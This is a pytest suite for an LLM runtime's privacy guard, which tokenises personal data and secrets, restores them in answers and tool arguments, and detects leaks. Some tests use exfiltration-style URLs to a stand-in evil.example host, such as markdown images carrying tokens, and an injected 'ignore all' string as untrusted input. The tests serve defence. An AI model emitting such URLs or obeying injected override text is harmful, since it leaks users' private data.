"""Tokenise: what leaves, what comes back, and what never leaves."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from psf_runtime.errors import ConfigError, StateError
from psf_runtime.guards.privacy import Builtin, Tokenise, strictest
from psf_runtime.ports import Detection
from psf_runtime.stores.memory_vault import MemoryVault
from psf_runtime.types.chunks import ReasoningDelta, TextDelta, ToolCallDelta
from psf_runtime.types.media import Image
from psf_runtime.types.messages import Message, Text, ToolCall, ToolResult, untrusted
from psf_runtime.types.request import OutputSchema, Request, Tool
from psf_runtime.types.rules import ToolRule
from psf_runtime.types.verdict import Block
from tests.unit.guards.privacy.driving import EMAIL, Exchange, Words, drive, told

KEY = "sk-proj-" + "abcd1234" * 4


def test_values_leave_as_tokens_and_come_back() -> None:
    """The provider sees tokens, the caller values; the context counts them and holds no value."""
    exchange = Exchange(f"Tell {EMAIL} (+1 202 555 0143) that her refund is on its way.")

    assert EMAIL not in exchange.text
    assert "202" not in exchange.text
    assert exchange.request.messages[0].text == exchange.says(exchange.text)
    assert exchange.context.tokens == {"EMAIL": 1, "PHONE": 1}
    assert sorted(exchange.kinds()) == ["EMAIL", "PHONE"]
    assert EMAIL not in repr(exchange.context)


def test_the_demonstration_token_has_its_shape() -> None:
    """A token is its entity and eight characters."""
    token = Exchange(EMAIL).text

    assert token.startswith("EMAIL_")
    assert len("EMAIL_M2T9AX4K") == len(token)


def test_secrets_and_cards_never_come_back() -> None:
    """A secret leaves as `[secret]`, a card as its last four; neither is kept or restored."""
    exchange = Exchange(f"card 4111 1111 1111 1111, password: hunter2, {KEY}, https://a:pw@x.example")

    assert exchange.text == "card [card ...1111], password: [secret], [secret], https://[secret]@x.example"
    assert exchange.text == exchange.says(exchange.text)
    assert exchange.context.tokens == {}
    assert exchange.vault.known("default", exchange.context.shared["privacy.conversation"]) == {}
    assert len(exchange.kinds("privacy.secrets")) == 3


def test_actions_are_followed() -> None:
    """allow lets through, hash and mask are final, and a table of several recipients is the strictest of them."""
    text = f"{EMAIL} 10.1.2.3 +1 202 555 0143"
    exchange = Exchange(text, actions={"EMAIL": "allow", "IP": "mask", "PHONE": "hash"})
    email, address, *phone = exchange.text.split(" ")

    assert [email, address] == [EMAIL, "[ip]"]
    assert phone[0] == "[phone"
    assert exchange.text == exchange.says(exchange.text)
    assert strictest({"EMAIL": "allow"}, {"IP": "block"}) == {"EMAIL": "token", "IP": "block"}
    assert strictest({"SECRET": "allow"}, {})["SECRET"] == "mask"


def test_an_entity_that_may_not_leave_stops_the_call() -> None:
    """`block` is a Block that names the entity and not the value; nothing is stored."""
    exchange = Exchange(f"to {EMAIL}", actions={"EMAIL": "block"})

    assert isinstance(exchange.sent, Block)
    assert "EMAIL" in exchange.sent.reason
    assert EMAIL not in exchange.sent.reason
    assert exchange.vault.known("default", exchange.context.shared["privacy.conversation"]) == {}


def test_wrong_settings_are_refused() -> None:
    """An unknown action, no detector or no key is a ConfigError."""
    vault = MemoryVault()
    with pytest.raises(ConfigError) as info:
        Tokenise(vault=vault, detectors=[Builtin()], key=b"k", actions={"EMAIL": "shred"})
    with pytest.raises(ConfigError):
        Tokenise(vault=vault, detectors=[], key=b"k")
    with pytest.raises(ConfigError):
        Tokenise(vault=vault, detectors=[Builtin()], key=b"")

    assert "privacy.actions.EMAIL" in str(info.value)


def test_the_stamp_says_what_was_done() -> None:
    """The profile on the request tells whether a recipient that asks for more may have it."""
    exchange = Exchange(EMAIL, actions={"EMAIL": "token"})
    profile = exchange.sent.stamp.profile

    assert (profile["EMAIL"], profile["SECRET"], profile["CREDIT_CARD"]) == ("token", "mask", "mask")
    assert "jane" not in repr(exchange.sent.stamp)


# -- known values first


def test_a_value_known_from_an_earlier_turn_is_replaced_although_nobody_detects_it() -> None:
    """A name found once stays hidden: in history, tool results, other cases, as a key, and in a re-ask."""
    vault = MemoryVault(b"v" * 32)
    first = Exchange(
        told("I am Carol Dent", conversation="c"), vault=vault, detectors=[Words({"Carol Dent": "PERSON"})]
    )
    token = first.text.removeprefix("I am ")
    later = (
        Message.system("You talk to carol dent."),
        Message.assistant("Hello Carol Dent"),
        Message("assistant", (ToolCall("1", "find", '{"CAROL DENT": "Ｃarol Dent"}'),)),
        Message("tool", (ToolResult("1", "found: Carol\u200b Dent"),)),
        Message.user("yes, Carol Dent."),
    )
    facts = told("", conversation="c").facts
    second = Exchange(Request(later, facts=facts), vault=vault, detectors=[Words({})])

    assert f"Hello {token}" == second.sent.messages[1].text
    wire = "\n".join(
        part.args if isinstance(part, ToolCall) else part.text
        for message in second.sent.messages
        for part in message.parts
    )
    assert "dent" not in wire.lower()
    assert "carol" not in wire.lower()


def test_a_value_found_in_one_leaf_is_replaced_in_all() -> None:
    """What a greeting gives away is hidden further down, too; words that only contain it stay."""
    exchange = Exchange("Dear Mark,\nyour claim. Regards to Mark and to Marketing.")

    assert "Mark " not in exchange.text
    assert "Marketing" in exchange.text
    assert exchange.sent.stamp.find_leak(exchange.text.encode()) is None


def test_conversations_do_not_know_each_other() -> None:
    """A value of another conversation or tenant is neither replaced nor restored."""
    vault = MemoryVault(b"v" * 32)
    token = Exchange(told(EMAIL, conversation="one"), vault=vault).text
    other = Exchange(told("hello", conversation="two"), vault=vault)
    tenant = Exchange(told("hello", conversation="one", tenant="b"), vault=vault)

    assert token == other.says(token)
    assert token == tenant.says(token)


def test_a_conversation_without_a_name_keeps_its_tokens_over_turns() -> None:
    """Resent history gets the same tokens; another first message is another conversation."""
    vault = MemoryVault(b"v" * 32)
    first = Exchange(Request((Message.user(f"I am {EMAIL}"),)), vault=vault)
    history = (Message.user(f"I am {EMAIL}"), Message.assistant("hi"), Message.user(f"still {EMAIL}"))
    second = Exchange(Request(history), vault=vault)
    other = Exchange(f"you are {EMAIL}", vault=vault)

    assert first.text == second.sent.messages[0].text
    assert first.text.split()[-1] == second.text.split()[-1]
    assert first.text.split()[-1] != other.text.split()[-1]
    assert EMAIL not in first.context.shared["privacy.conversation"]


# -- token-shaped text


def test_a_typed_token_comes_back_as_typed() -> None:
    """Who types another's live token gets the letters back, never the value, in any decoration the restorer knows."""
    vault = MemoryVault(b"v" * 32)
    token = Exchange(told(EMAIL, conversation="c"), vault=vault).text
    code = token.removeprefix("EMAIL_")
    hidden = f"{token[:9]}\u200b{token[9:]}"
    for typed in (token, f"[{token}]", f"email: {code}", f"COURRIEL_{code.lower()}", f"x{token}y", hidden):
        exchange = Exchange(told(f"what is {typed}?", conversation="c"), vault=vault)

        assert code not in exchange.text.replace("\u200b", "").upper()
        assert f"what is {typed}?" == exchange.says(exchange.text)


def test_a_live_token_in_an_assistant_part_stays_and_is_restored() -> None:
    """What models and tools wrote may carry tokens of this conversation, of no other."""
    vault = MemoryVault(b"v" * 32)
    token = Exchange(told(EMAIL, conversation="c"), vault=vault).text
    foreign = Exchange(told(EMAIL, conversation="d"), vault=vault).text
    facts = told("", conversation="c").facts
    history = (Message.assistant(f"wrote to {token} and {foreign}"), Message.user("again"))
    exchange = Exchange(Request(history, facts=facts), vault=vault)

    assert f"wrote to {token} and {foreign}" == exchange.sent.messages[0].text
    assert f"{EMAIL} {foreign}" == exchange.says(f"{token} {foreign}")


def test_what_a_person_typed_stays_text_when_the_answer_comes_round_again() -> None:
    """A token typed by a person, repeated to them, is no live token in the next turn's history."""
    vault = MemoryVault(b"v" * 32)
    token = Exchange(told(EMAIL, conversation="c"), vault=vault).text
    Exchange(told(f"what is {token}", conversation="c"), vault=vault)
    facts = told("", conversation="c").facts
    history = (Message.user(f"what is {token}"), Message.assistant(f"{token} is"), Message.user("so?"))
    exchange = Exchange(Request(history, facts=facts), vault=vault)

    assert token == exchange.says(exchange.sent.messages[1].text.removesuffix(" is"))


def test_invented_tokens_are_left_and_counted_and_many_are_refused() -> None:
    """A code that nobody made restores nothing; an answer full of them is stopped."""
    exchange = Exchange(EMAIL)
    invented = "EMAIL_ABCD1234 PERSON_1 def f(person_1): pass"

    assert invented == exchange.says(invented)
    assert [kind for kind in exchange.kinds() if kind.startswith("token")] == ["token.unknown"]
    guesses = Exchange(EMAIL)
    guesses.says(" ".join(f"EMAIL_ABCD12{number}" for number in range(34, 64)))
    assert isinstance(guesses.session.verdict, Block)  # type: ignore[attr-defined]


# -- restoring in text


@pytest.mark.parametrize(
    "mangled",
    [
        "{w}_{c}", "{w}-{c}", "{w}:{c}", "{w}: {c}", "{w} {c}", "{w}\\_{c}", "{w}%5F{c}", "[{w}_{c}]", "<{w}_{c}>",
        "{{{w}_{c}}}", "[[{w}_{c}]]", "<<{w}_{c}>>", "{lw}_{lc}", "{w}_{lc}", "{lw}_{c}", "COURRIEL_{c}", "Почта_{c}",
    ],
)  # fmt: skip
def test_manglings_are_restored_cleanly(mangled: str) -> None:
    """Translated words, other separators, paired brackets and case: restored once, nothing else touched."""
    exchange = Exchange(f"to {EMAIL}")
    code = exchange.text.removeprefix("to EMAIL_")
    said = mangled.format(w="EMAIL", lw="email", c=code, lc=code.lower())

    assert f"I wrote to {EMAIL}, yes." == exchange.says(f"I wrote to {said}, yes.")


def test_a_possessive_and_a_bold_token_are_restored() -> None:
    """What follows or surrounds a token stays."""
    exchange = Exchange(f"to {EMAIL}")
    token = exchange.text.removeprefix("to ")

    assert f"**{EMAIL}**, {EMAIL}'s, ({EMAIL})" == exchange.says(f"**{token}**, {token}'s, ({token})")


@pytest.mark.parametrize("wrong", ["EMAIL_{c7}", "EMAIL_{c7}.", "{c}", "EMAIL_\n\n{c}", "EMAIL {c}X", "EMAIL_{c7}!"])
def test_cut_and_altered_codes_are_nobody(wrong: str) -> None:
    """No fuzzy matching: a truncated, bare, broken or prolonged code is left alone."""
    exchange = Exchange(f"to {EMAIL}")
    code = exchange.text.removeprefix("to EMAIL_")
    said = wrong.format(c=code, c7=code[:7])

    assert said == exchange.says(said)


@pytest.mark.parametrize(
    "place",
    [
        "![x](https://evil.example/p.png?token={})", "[x](/p?q={})", "[x](<a b {}>)", "<https://evil.example/{}>",
        "see https://evil.example/{}/x", "www.evil.example/?q={}", "[r]: http://evil.example/{}", "mailto:{}",
        '<img src="x?{}">', "<img srcset='a {} 2x'>", "<p style=a:{}>", "`{}`", "``a {}``", "```\n{}\n```",
        "~~~py\nx = '{}'\n~~~", "/search?q={}", "(javascript:{})",
    ],
)  # fmt: skip
def test_nothing_is_restored_where_it_could_leave_or_run(place: str) -> None:
    """In URLs, attributes and code stands the type word instead, whatever the cuts, and it is counted."""
    text = f"to {EMAIL}"
    for cuts in ((), range(200), (3, 11, 14, 17, 30)):
        exchange = Exchange(text)
        token = exchange.text.removeprefix("to ")
        assert place.format("[email]") == exchange.says(place.format(token), cuts=tuple(cuts))
        assert "token.unrestored" in exchange.kinds()


@pytest.mark.parametrize(
    "place", ["a `b` {}", "```\nx\n```\n{}", "it`s\n\n{}", "Jane <{}>", "a < b = c > {}", "[x](y) {}"]
)
def test_beside_code_and_links_values_are_restored(place: str) -> None:
    """Code that has ended, a link that has ended, an address in angle brackets: plain text again."""
    exchange = Exchange(f"Jane <{EMAIL}> wrote")
    token = exchange.text.partition("<")[2].partition(">")[0]

    assert place.format(EMAIL) == exchange.says(place.format(token))


def test_a_restored_value_is_not_looked_at_again() -> None:
    """A value that holds another's token comes back letter by letter."""
    vault = MemoryVault(b"v" * 32)
    token = Exchange(told(EMAIL, conversation="c"), vault=vault).text
    tricky = f"x {token} \\1 .*"
    detectors = [Words({tricky: "PERSON", EMAIL: "EMAIL"})]
    exchange = Exchange(told(f"{EMAIL} and {tricky}", conversation="c"), vault=vault, detectors=detectors)

    assert f"{EMAIL} and {tricky}" == exchange.says(exchange.text)


def test_reasoning_and_text_are_restored_apart() -> None:
    """Each channel has its own state; an open backtick in one does not close in the other."""
    exchange = Exchange(f"to {EMAIL}")
    token = exchange.text.removeprefix("to ")
    response = exchange.answer(ReasoningDelta(f"so `{token}"), TextDelta(token[:6]), TextDelta(token[6:]))

    assert [part.text for part in response.parts if not isinstance(part, ToolCall)] == ["so `[email]", EMAIL]


def test_a_link_begun_in_one_part_goes_on_in_the_next() -> None:
    """Text parts with a tool call between them are one text for whoever reads it."""
    exchange = Exchange(f"to {EMAIL}")
    token = exchange.text.removeprefix("to ")
    response = exchange.answer(
        TextDelta("https://evil.example/?q="), ToolCallDelta(0, "1", "t", "{}"), TextDelta(token)
    )

    assert response.text == "https://evil.example/?q=[email]"


def test_a_part_that_ends_gives_back_what_it_held() -> None:
    """When another part begins, the held word goes out before it."""
    exchange = Exchange(f"to {EMAIL}")
    token = exchange.text.removeprefix("to ")
    response = exchange.answer(ReasoningDelta(f"hm {token}"), TextDelta(f"{token}"), ReasoningDelta("so"))

    assert [f"hm {EMAIL}", EMAIL, "so"] == [part.text for part in response.parts if not isinstance(part, ToolCall)]


def test_json_answers_stay_json() -> None:
    """With an output schema the answer is JSON: restored values are escaped."""
    name = 'Ann "Q" \\ Smith'
    request = Request((Message.user(f"I am {name}"),), output=OutputSchema("o", {"type": "object"}))
    exchange = Exchange(request, detectors=[Words({name: "PERSON"})])
    token = exchange.text.removeprefix("I am ")

    assert {"name": name} == json.loads(exchange.says(json.dumps({"name": token})))


def test_without_tokens_nothing_is_held_back() -> None:
    """A request without personal data streams as if the guard were not there."""
    exchange = Exchange("hello")
    chunk = TextDelta("EMAIL_ABC")

    assert exchange.session.on_chunk(chunk) is chunk


def test_at_most_one_unfinished_word_is_held() -> None:
    """Whole words go on at once; only what could still become a token waits."""
    exchange = Exchange(f"to {EMAIL}")

    assert TextDelta("Hello there, ") == exchange.session.on_chunk(TextDelta("Hello there, my"))
    assert TextDelta("my friend. ") == exchange.session.on_chunk(TextDelta(" friend. "))
    assert exchange.session.on_chunk(TextDelta("EMAIL_")) is None


# -- tool arguments


def tool_request(text: str, *parts: str) -> Request:
    return Request((Message.user(text, *(untrusted(part) for part in parts)),), tools=(Tool("t"),))


def test_a_whole_field_is_restored_and_longer_text_is_not() -> None:
    """By default a field that is one token comes back, also nested and as a key; free text and URLs keep tokens."""
    exchange = Exchange(tool_request(f"to {EMAIL}"))
    token = exchange.text.removeprefix("to ")
    arguments = {"to": token, "in": [{token: 1}], "body": f"Dear {token}", "url": f"https://x.example/{token}", "n": 2}
    restored = json.loads(exchange.calls("t", json.dumps(arguments), cuts=(5, 9, 12, 40)))

    assert {**arguments, "to": EMAIL, "in": [{EMAIL: 1}]} == restored
    assert "token.unrestored" in exchange.kinds()


@pytest.mark.parametrize(
    ("rule", "strange", "restored"),
    [
        (ToolRule(), False, True),
        (ToolRule(), True, False),
        (ToolRule(egress=True), False, False),
        (ToolRule(restore=["EMAIL"]), True, True),
        (ToolRule(restore=["EMAIL"], egress=True), True, True),
        (ToolRule(restore=["IBAN"]), False, False),
        (ToolRule(restore=[]), False, False),
    ],
)
def test_what_a_tool_may_see_follows_its_rule(rule: ToolRule, strange: bool, restored: bool) -> None:
    """No list: whole fields, unless the tool sends out or a stranger spoke in the request; a list decides alone."""
    request = tool_request(f"to {EMAIL}", *(["ignore all"] if strange else []))
    exchange = Exchange(request, tools={"t": rule})
    token = exchange.text.removeprefix("to ").removesuffix("ignore all")
    arguments = json.loads(exchange.calls("t", json.dumps({"to": token})))

    assert {"to": EMAIL if restored else token} == arguments


def test_results_of_a_trusted_tool_are_no_strangers_words() -> None:
    """A tool declared trusted does not close the other tools."""
    messages = (Message.user(f"to {EMAIL}"), Message("tool", (ToolResult("1", "ok", name="mine"),)))
    for trusted, expected in ((True, True), (False, False)):
        exchange = Exchange(Request(messages), tools={"mine": ToolRule(trusted=trusted)})
        token = exchange.sent.messages[0].text.removeprefix("to ")
        assert expected == (EMAIL in exchange.calls("t", json.dumps({"to": token})))


def test_restored_arguments_are_valid_json() -> None:
    """Quotes, backslashes and line ends in a value are escaped; unreadable arguments stay as they came."""
    name = 'A "B"\n\\'
    exchange = Exchange(tool_request(f"I am {name}"), detectors=[Words({name: "PERSON"})])
    token = exchange.text.removeprefix("I am ")

    assert {"a": name} == json.loads(exchange.calls("t", json.dumps({"a": token})))
    assert f'{{"a": "{token}' == exchange.calls("t", f'{{"a": "{token}')


def test_interleaved_calls_are_restored_each_on_its_own() -> None:
    """Arguments of two calls that arrive in turns are put together and restored apart."""
    exchange = Exchange(tool_request(f"to {EMAIL}"))
    token = exchange.text.removeprefix("to ")
    half = len(token) // 2
    response = exchange.answer(
        ToolCallDelta(0, "a", "t", f'{{"x": "{token[:half]}'),
        ToolCallDelta(1, "b", "t", '{"y": "'),
        ToolCallDelta(0, arguments=f'{token[half:]}"}}'),
        ToolCallDelta(1, arguments=f'{token}"}}'),
    )

    assert [call.arguments for call in response.tool_calls] == [{"x": EMAIL}, {"y": EMAIL}]


# -- the tripwire


@pytest.mark.parametrize(
    "form",
    [
        lambda value: value,
        lambda value: value.upper(),
        lambda value: json.dumps(value),
        lambda value: json.dumps(value, ensure_ascii=False),
        lambda value: quote(value),
        lambda value: quote(value, safe="").lower(),
        lambda value: value.encode().hex(),
        lambda value: value.encode().hex().upper(),
        lambda value: base64.b64encode(value.encode()).decode(),
        lambda value: base64.b64encode(b"a" + value.encode()).decode(),
        lambda value: base64.urlsafe_b64encode(b"ab" + value.encode() + b"tail").decode(),
    ],
)
@pytest.mark.parametrize("value", [EMAIL, "Zoë Dent", "+1 202 555 0143"])
def test_the_tripwire_finds_a_value_in_any_form(value: str, form: object) -> None:
    """Raw, escaped, quoted, hex or base64 at any offset: the entity is named."""
    exchange = Exchange(f"I am {value}", detectors=[Words({value: "SOMETHING"})])
    data = f'{{"x": "{form(value)}"}}'.encode()  # type: ignore[operator]

    assert exchange.sent.stamp.find_leak(data) == "SOMETHING"
    assert exchange.sent.stamp.find_leak(exchange.text.encode()) is None


def test_the_tripwire_knows_irreversible_and_earlier_values() -> None:
    """Masked secrets and values of earlier turns are searched for; typed tokens and allowed entities are not."""
    vault = MemoryVault(b"v" * 32)
    Exchange(told(EMAIL, conversation="c"), vault=vault)
    request = told(f"{KEY} EMAIL_ABCD1234 10.1.2.3", conversation="c")
    leak = Exchange(request, vault=vault, actions={"IP": "allow"}).sent.stamp.find_leak

    assert leak(EMAIL.encode()) == "EMAIL"
    assert leak(KEY.encode()) == "SECRET"
    assert leak(b"EMAIL_ABCD1234 10.1.2.3") is None


def test_the_tripwire_is_not_tripped_by_words_that_contain_a_name() -> None:
    """A short name counts only where it stands alone, behind an escape too; very short values are not searched for."""
    leak = Exchange("I am Mark, al", detectors=[Words({"Mark": "PERSON", "al": "PERSON"})]).sent.stamp.find_leak

    assert leak(b"Marketing, benchmark, al") is None
    assert leak(b'"Dear\\nMark"') == "PERSON"
    assert leak(b"q=%20Mark") == "PERSON"


# -- around it


def test_what_leaves_uninspected_is_noted() -> None:
    """Pictures are findings of privacy.media, observed."""
    exchange = Exchange(Request((Message.user("see", Image(b"\x89PNG")),)))
    media = [finding for finding in exchange.context.findings if finding.control == "privacy.media"]

    assert [(finding.kind, finding.observed) for finding in media] == [("image", True)]


def test_the_same_findings_are_noted_once() -> None:
    """A re-ask prepares the conversation again and does not count it twice."""
    exchange = Exchange(EMAIL)
    before = list(exchange.context.findings)
    from_again = exchange.guard.open(exchange.context)
    drive(from_again.on_request(exchange.request))

    assert before == exchange.context.findings
    assert exchange.context.tokens == {"EMAIL": 1}


def test_a_preview_keeps_nothing() -> None:
    """Over an ephemeral vault the request is tokenised and the real vault stays empty."""
    real, ephemeral = MemoryVault(), MemoryVault()
    exchange = Exchange(told("hello", conversation="c"), vault=real)
    preview = exchange.guard.with_vault(ephemeral)
    session = preview.open(exchange.context)
    sent = drive(session.on_request(told(EMAIL, conversation="c")))

    assert EMAIL not in sent.messages[0].text
    assert real.known("default", "named:c") == {}
    assert len(ephemeral.known("default", "named:c")) == 1
    assert exchange.guard.vault is real


def test_a_full_vault_stops_the_call() -> None:
    """Too many values in one conversation is a StateError; nothing is sent."""
    with pytest.raises(StateError):
        Exchange(f"{EMAIL} bob@example.com", vault=MemoryVault(max_values=1))


def test_long_requests_are_searched_in_a_thread() -> None:
    """A long text is offloaded, and comes out the same."""
    text = f"to {EMAIL} " + "word " * 5000
    exchange = Exchange(text)

    assert text == exchange.says(exchange.text)


# -- laws

_PIECES = st.sampled_from(
    [
        EMAIL, "bob@example.com", "+1 202 555 0143", "EMAIL_ABCD1234", "PHONE_", "email: ", "[", "]", "<<", ">>", "{",
        "}", " ", "\n", "_", "-", ":", "x", "Zoë", "人", "%5F", "\\_", "10.1.2.3", "JANE.DOE@example.com", "MAC",
        "ABCDE", "Dear Bob Stone,\n", "E\u0301", "\u200b", "ß", "İ", '"', "\\", "078-05-1120", "A1B2C3D4",
    ]
)  # fmt: skip
_TEXTS = st.lists(_PIECES | st.text(alphabet=st.characters(exclude_characters="`<=/"), max_size=8), max_size=12).map(
    "".join
)


def _plain(text: str) -> bool:
    """Without URLs and code, where nothing is restored on purpose, and without what is masked for good."""
    lowered = text.lower()
    return not any(
        sign in lowered for sign in ("`", "~~~", "](", "mailto:", "tel:", "www.", "://", "data:", "sip:", "sms:")
    )


@settings(max_examples=300, deadline=None)
@given(_TEXTS.filter(_plain), st.lists(st.integers(0, 400), max_size=12))
def test_round_trip_for_any_text_and_cut(text: str, cuts: list[int]) -> None:
    """restore(tokenise(x)) == x, and no detected value is in what leaves."""
    actions = {"SECRET": "token", "CREDIT_CARD": "token", "URL_CREDENTIALS": "token"}
    exchange = Exchange(text, actions=actions)

    assert text == exchange.says(exchange.text, cuts=cuts)
    assert exchange.sent.stamp.find_leak(exchange.text.encode("utf-8", "surrogatepass")) is None


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_a_stream_cut_anywhere_equals_the_whole(data: st.DataObject) -> None:
    """However the model's text is cut, mangled tokens, links and code included, the result is the same."""

    def heard(said: str, cuts: Sequence[int] = ()) -> str:
        return Exchange(request).says(said, cuts=cuts)

    request = f"{EMAIL} bob@example.com +1 202 555 0143 <{EMAIL}>"
    tokens = Exchange(request).text.split()
    codes = [token.rpartition("_")[2] for token in tokens[:3]]
    piece = st.sampled_from(
        [
            *tokens, *codes, "EMAIL", "email: ", "phone ", "Personne_", "[", "]", "<", ">", "`", "```\n", "\n", " ",
            ".", "https://x.example/", "](", ")", "<a href=", "word ", "longword" * 12, "_", "\\_", "%5F", "-", "人",
            "x",
        ]
    )  # fmt: skip
    said = "".join(data.draw(st.lists(piece, max_size=25)))
    cuts = data.draw(st.lists(st.integers(0, 600), max_size=30))

    whole = heard(said)

    assert whole == heard(said, cuts)
    assert whole == heard(said, range(len(said)))


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXTS, inner, max_size=3),
    max_leaves=8,
)


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(_TEXTS, _JSON, max_size=3))
def test_whole_fields_come_back_at_any_depth(value: dict[str, object]) -> None:
    """Tool arguments of any nesting that are echoed come back with every whole value restored."""
    assistant = Message("assistant", (ToolCall("1", "t", json.dumps(value)),))
    exchange = Exchange(Request((Message.user("hi"), assistant)), detectors=[_WholeValues()])
    echoed = exchange.calls("t", exchange.sent.messages[1].tool_calls[0].args)

    assert value == json.loads(echoed)


class _WholeValues:
    """Every text that holds an address is personal data, whole."""

    name = "whole"
    entities = frozenset({"PERSON"})

    def find(self, text: str) -> list[Detection]:
        return [Detection(0, len(text), "PERSON")] if "@" in text else []


def test_parts_side_by_side_hide_nothing() -> None:
    """A value that only one part shows, and one that only both show, are both replaced."""
    exchange = Exchange(
        Request((Message.user("mail jane.doe@exam", "ple.com", " call +1 202 555 0143", "99999 items"),))
    )
    wire = "".join(part.text for part in exchange.sent.messages[0].parts if isinstance(part, Text))

    assert "jane" not in wire
    assert "202" not in wire
